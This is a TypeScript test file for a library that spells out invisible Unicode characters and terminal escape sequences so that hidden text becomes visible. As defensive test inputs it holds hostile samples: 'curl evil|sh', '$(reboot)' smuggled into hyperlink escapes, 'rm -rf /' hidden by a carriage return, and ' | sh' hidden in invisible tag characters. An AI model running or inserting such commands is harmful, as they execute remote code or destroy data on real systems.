import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { cleanLine, spellCode, spellLine, spellWords } from '../../../src/core/lib/clean-line.ts';
import { cases } from '../../support/cases.ts';

describe('cleanLine', () => {
  it.each([
    ['two\r\nlines', 'two lines'],
    ['a\u0000b\u001b[2Kc\u007f', 'a b [2Kc'],
    ['\u001b[1;31mred\u001b[0m \u001b]8;;https://a.example\u0007link\u001b]8;;\u0007', 'red link'],
    ['safe\u202egpj.exe', 'safe gpj.exe'],
    ['a\u2028b\u2029c\u0085d', 'a b c d'],
    ['half \ud83d pair', 'half pair'],
    ['  many \t  blanks ', 'many blanks'],
    ['Grüße 👩‍👩‍👧', 'Grüße 👩‍👩‍👧'],
    ['', ''],
  ])('makes %j one line', (text, line) => {
    expect(cleanLine(text)).toBe(line);
  });
});

/** As letters that nobody sees. */
const asTags = (text: string) =>
  text.replace(/./gs, (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)));

const ENGLAND = `\u{1f3f4}${asTags('gbeng')}\u{e007f}`;

const EMOJI = String.raw`\p{RGI_Emoji}`;

describe('spellCode', () => {
  it.each([
    [`ls${asTags(' | sh')}`, 'ls⟨U+E0020⟩⟨U+E007C⟩⟨U+E0020⟩⟨U+E0073⟩⟨U+E0068⟩', 5],
    ['a\u200bb', 'a⟨U+200B⟩b', 1],
    ['f\u2062(x)', 'f⟨U+2062⟩(x)', 1],
    ['const \u3164 = 1', 'const ⟨U+3164⟩ = 1', 1],
    ['rm a\ufe0f', 'rm a⟨U+FE0F⟩', 1],
    ['rm 1\ufe0f', 'rm 1⟨U+FE0F⟩', 1],
    ['pass\u00adword', 'pass⟨U+00AD⟩word', 1],
    ['\ufeffkind: Pod', '⟨U+FEFF⟩kind: Pod', 1],
    ['a\u2800b\ufffcc\uffffd', 'a⟨U+2800⟩b⟨U+FFFC⟩c⟨U+FFFF⟩d', 3],
    ['a\u00a0b\u200ac', 'a⟨U+00A0⟩b⟨U+200A⟩c', 2],
    ['if (a\u202e\u2066) {\u2069', 'if (a⟨U+202E⟩⟨U+2066⟩) {⟨U+2069⟩', 3],
    ['ls # \rrm -rf /', 'ls # ⟨U+000D⟩rm -rf /', 1],
    ['a\u000bb\u000cc\u0085d\u2028e\u2029', 'a⟨U+000B⟩b⟨U+000C⟩c⟨U+0085⟩d⟨U+2028⟩e⟨U+2029⟩', 5],
    ['a\0b\u007f\ud83d', 'a⟨U+0000⟩b⟨U+007F⟩⟨U+D83D⟩', 3],
    ['می\u200c خواهم क्\u200da', 'می⟨U+200C⟩ خواهم क्⟨U+200D⟩a', 2],
    ['می\u200c\u200cخواهم a\u200cb', 'می⟨U+200C × 2⟩خواهم a⟨U+200C⟩b', 3],
    ['\u0d28\u0d4d\u200d\u200d', '\u0d28\u0d4d\u200d⟨U+200D⟩', 1],
    ['\u{1f469}\u200d\u200d\u{1f680}', '\u{1f469}⟨U+200D × 2⟩\u{1f680}', 2],
    [`a${'\u200b'.repeat(4_000)}b`, 'a⟨U+200B × 4,000⟩b', 4_000],
    [`e${'\u0301'.repeat(9)}`, `e${'\u0301'.repeat(6)}⟨U+0301 × 3⟩`, 3],
    [`\u{1f3f4}${asTags('sh')}\u{e007f}`, '\u{1f3f4}⟨U+E0073⟩⟨U+E0068⟩⟨U+E007F⟩', 3],
  ])('spells out invisible characters in %j', (text, read, invisible) => {
    expect(spellCode(text)).toEqual({ text: read, invisible, unspelled: 0 });
  });

  it.each([
    'a\tb\n  c',
    'Grüße, 漢字\u3000仮名, שלום, مرحبا, क्ष',
    'می\u200cخواهم क्\u200dष ශ්\u200dරී \u0d28\u0d4d\u200d, \u09a4\u09cd\u200d',
    `\u{1f469}\u200d\u{1f680} \u2714\ufe0f 1\ufe0f\u20e3 \u{1f3f3}\ufe0f\u200d\u{1f308} \u{1f44d}\u{1f3fd} ${ENGLAND}`,
    '⟨x⟩ U+200B',
  ])('leaves %j as it is', (text) => {
    expect(spellCode(text)).toEqual({ text, invisible: 0, unspelled: 0 });
  });

  it('reads CR LF as LF, and spells out a lone CR', () => {
    expect(spellCode('a\r\nb\r\r\nc')).toMatchObject({ text: 'a\nb⟨U+000D⟩\nc', invisible: 1 });
  });

  it('escapes text that looks like a spelled-out character', () => {
    expect(spellCode('a⟨U+200B⟩')).toMatchObject({ text: 'a⟨U+27E8⟩U+200B⟩', invisible: 0 });
  });

  it('spells out at most a thousand runs, so that visible text is not pushed away', () => {
    const { text, ...counts } = spellCode('\u200b\u200c'.repeat(1_000));
    expect(text).toBe(`${'⟨U+200B⟩⟨U+200C⟩'.repeat(500)}${'�'.repeat(1_000)}`);
    expect(counts).toEqual({ invisible: 2_000, unspelled: 1_000 });
  });

  it('leaves every emoji unchanged, and spells out invisible characters next to it', () => {
    const sign = fc.constantFrom(
      ...[
        'a',
        '1',
        '#',
        '\ufe0f',
        '\u200d',
        '\u20e3',
        '\u{1f469}',
        '\u{1f680}',
        '\u2714',
        '\u2764',
      ],
      ...[
        '\u{1f3f3}',
        '\u{1f3f4}',
        '\u{1f308}',
        '\u{1f3fd}',
        '\u{1f9d1}',
        '\u{e0067}',
        '\u{e007f}',
      ],
      ...[
        ENGLAND,
        '\u{1f469}\u200d\u{1f680}',
        '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
      ],
      '\u{1f9d1}\u{1f3fb}\u200d\u2764\ufe0f\u200d\u{1f48b}\u200d\u{1f9d1}\u{1f3fd}',
    );
    const emoji = new RegExp(EMOJI, 'gv');
    fc.assert(
      fc.property(fc.array(sign, { maxLength: 12 }), (signs) => {
        const text = signs.join('');
        const others = text.replace(emoji, '|');
        const unseen = [...others].filter((char) =>
          /[\u200d\ufe0f\u{e0020}-\u{e007f}]/u.test(char),
        );
        expect(spellCode(text).invisible).toBe(unseen.length);
      }),
      { numRuns: cases(500, 5_000) },
    );
  });

  it('never gives two different texts the same spelling, except for CR LF', () => {
    const sign = fc.constantFrom(
      ...[
        '`',
        '```',
        'https://a',
        '\u0645',
        'a',
        ' ',
        '\n',
        '\r',
        '\t',
        '⟨',
        '⟩',
        'U',
        '+',
        '2',
        '0',
        'B',
        '×',
        '�',
        '1',
        ',',
      ],
      ...[
        '\u200b',
        '\u200c',
        '\u200d',
        '\u202e',
        '\ufe0f',
        '\u00a0',
        '\u0301',
        '\ud83d',
        '\u{e0041}',
      ],
      ...['\u{1f469}', '\u{1f680}', '\u2714', '⟨U+200B⟩', '⟨U+200B × 2⟩', '\u200b\u200b', '\u27e8'],
    );
    const text = fc.array(sign, { maxLength: 6 }).map((signs) => signs.join(''));
    const seen = new Map<string, string>();
    fc.assert(
      fc.property(text, (each) => {
        const raw = each.replaceAll('\r\n', '\n');
        for (const [how, spell] of Object.entries({ spellCode, spellWords })) {
          const read = how + spell(each).text;
          expect(seen.get(read) ?? raw).toBe(raw);
          seen.set(read, raw);
        }
      }),
      { numRuns: cases(3_000, 50_000) },
    );
  });
});

describe('spellWords', () => {
  it.each([
    'می\u200cخواهم क्\u200dष',
    `\u{1f469}\u200d\u{1f680} \u2714\ufe0f \u2714\ufe0e \u2764\u200d\u{1f525} ${ENGLAND}`,
    '\u845b\u{e0100} a\u00a0b',
    'Prix\u00a0: 5\u202f€',
  ])('leaves %j as it is', (text) => {
    expect(spellWords(text)).toEqual({ text, invisible: 0, unspelled: 0 });
  });

  it.each([
    ['क्\u200da', 'क्⟨U+200D⟩a'],
    ['a\u200cख', 'a⟨U+200C⟩ख'],
    ['می\u200c می', 'می⟨U+200C⟩ می'],
    ['م\u061c\u200cم', 'م⟨U+061C⟩⟨U+200C⟩م'],
    ['ᠠ\u180b\u180b', 'ᠠ\u180b⟨U+180B⟩'],
    ['a\ufe0f\u200d\u{1f680}', 'a⟨U+FE0F⟩⟨U+200D⟩\u{1f680}'],
    ['\u{13000}\u{13437}', '\u{13000}⟨U+13437⟩'],
  ])('spells out a joiner that joins nothing: %j', (text, read) => {
    expect(spellWords(text).text).toBe(read);
  });

  it.each([
    ['Run `rm\u00a0a` in\u00a0prod', 'Run `rm⟨U+00A0⟩a` in\u00a0prod', 1],
    [
      '```\nक\u200dष\u2714\ufe0e\n```\n\u2714\ufe0e',
      '```\nक\u200dष\u2714⟨U+FE0E⟩\n```\n\u2714\ufe0e',
      1,
    ],
    ['not `closed\u00a0\nor ```a\u2009b', 'not `closed\u00a0\nor ```a⟨U+2009⟩b', 1],
    ['https://a/`b\u2009c` d\u2009e', 'https://a/`b⟨U+2009⟩c` d\u2009e', 1],
    ['`\u200b` \u200b', '`⟨U+200B⟩` ⟨U+200B⟩', 2],
  ])('spells out code as code: %j', (text, read, invisible) => {
    expect(spellWords(text)).toEqual({ text: read, invisible, unspelled: 0 });
  });

  it('spells out at most a thousand runs in the whole text, code or not', () => {
    const { text, ...counts } = spellWords('\u200b `\u200c` '.repeat(1_000));
    expect(text.startsWith(`${'⟨U+200B⟩ `⟨U+200C⟩` '.repeat(500)}� \`�\``)).toBe(true);
    expect(counts).toEqual({ invisible: 2_000, unspelled: 1_000 });
  });

  it('spells out the rest, as in code', () => {
    expect(spellWords('a\u200b 1\ufe0f \u202eb\rc می\u200c\u200c')).toEqual({
      text: 'a⟨U+200B⟩ 1⟨U+FE0F⟩ ⟨U+202E⟩b⟨U+000D⟩c می⟨U+200C × 2⟩',
      invisible: 6,
      unspelled: 0,
    });
  });
});

it('spellLine replaces white space by single spaces, and spells out the rest', () => {
  expect(spellLine(' Deploy\r\n4.2\u2028 to\u00a0\tprod\u200b\ufeff\u0007 ').text).toBe(
    'Deploy 4.2 to prod⟨U+200B⟩⟨U+FEFF⟩⟨U+0007⟩',
  );
});

describe('terminal escape sequences', () => {
  const link = (address: string, text: string, end = '\x1b\\') =>
    `\x1b]8;;${address}${end}${text}\x1b]8;;${end}`;

  test.each([
    ['\x1b[32m+\x1b[0m added', '+ added'],
    ['\x1b[1;38;5;208mnew\x1b[m \x1b[38:2::255:0:0mred\x1b[39;49m', 'new red'],
    ['\x1b[8mrm -rf /\x1b[28m', 'rm -rf /'],
    [link('https://a.example/x?a=1&b=2#c', 'run 4711'), 'run 4711'],
    [link('https://a.example', 'run', '\x07'), 'run'],
    [link('file://host/etc/motd', 'motd'), 'motd'],
    ['\x1b]8;id=1;https://a.example\x1b\\run\x1b]8;;\x1b\\', 'run'],
    [link('https://a.example', '\x1b[4mrun\x1b[24m'), 'run'],
  ])('for colours and links are removed, and their text stays: %j', (text, read) => {
    const spelled = { text: read, invisible: 0, unspelled: 0, isUnstyled: true };
    for (const spell of [spellCode, spellWords, spellLine]) expect(spell(text)).toEqual(spelled);
  });

  test.each([
    ['\x1b[2K\rdone', '�[2K⟨U+000D⟩done', 2],
    ['\x1b[3Aup', '�[3Aup', 1],
    ['\x1b]0;title\x07', '�]0;title⟨U+0007⟩', 2],
    ['\x1b]52;c;ZWNobw==\x07', '�]52;c;ZWNobw==⟨U+0007⟩', 2],
    ['\x1b\x1b(B', '��(B', 2],
    ['\x1b[31', '�[31', 1],
    ['\u009b31mred', '⟨U+009B⟩31mred', 1],
    ['\x1b]8;;https://a.example', '�]8;;https://a.example', 1],
  ])('of all other kinds are shown: %j', (text, read, invisible) => {
    expect(spellCode(text)).toMatchObject({ text: read, invisible });
    expect(spellCode(text).isUnstyled).toBeUndefined();
  });

  test.each([
    'x;curl evil|sh #',
    'id=1;https://a.example&reboot&',
    'id=1;https://a.example;reboot;',
    ';https://a.example;reboot;',
    ';$(reboot)',
    ';https://a.example`reboot`',
    ';https://a.example\n reboot',
  ])('with a shell command in place of a link are shown: %j', (hidden) => {
    const text = `echo \x1b]8;${hidden}\x07`;
    expect(spellCode(text).text).toBe(`echo �]8;${hidden}⟨U+0007⟩`);
  });

  test('are removed before the text around them is read', () => {
    expect(spellCode('\x1b[1m⟨\x1b[0mU+200B⟩').text).toBe('⟨U+27E8⟩U+200B⟩');
    expect(spellCode('a\r\x1b[0m\nb').text).toBe('a\nb');
    expect(spellLine('a \x1b[0m b').text).toBe('a b');
  });
});
